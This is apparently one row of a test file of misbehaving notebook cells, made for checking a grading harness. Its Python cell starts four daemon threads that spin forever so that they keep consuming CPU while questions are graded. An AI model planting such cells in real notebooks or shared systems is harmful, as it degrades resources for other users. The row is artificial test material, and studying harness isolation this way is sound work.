# row: 30
# about: leaves four spinning threads behind
# why: the notebook's process stands still while questions are graded, even where one process serves all

# %% after
import threading

def spin():
    while True:
        pass

for _ in range(4):
    threading.Thread(target=spin, daemon=True).start()
